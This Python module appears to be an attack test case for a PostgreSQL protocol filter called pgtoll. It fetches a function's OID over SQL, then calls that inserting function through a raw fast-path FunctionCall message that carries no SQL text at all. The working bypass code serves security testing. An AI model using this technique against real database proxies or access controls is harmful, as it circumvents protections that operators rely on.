"""Calls an inserting function by the fast path, without any SQL."""

from attacks.talking import Server

from pgtoll.wire.messages import message

WANTS = "fill"


def attack(server: Server) -> bytes:
    with server.connect() as session:
        row = session.execute("SELECT 'fill_nearly'::regproc::oid::int").fetchone()
    assert row is not None
    call = int(str(row[0])).to_bytes(4, "big") + b"\0\1\0\1" + b"\0\1\0\0\0\4\0\0\0\6" + b"\0\1"
    with server.login() as client:
        client.send(message(b"F", call))
        return b"".join(data for _, data in client.replies())
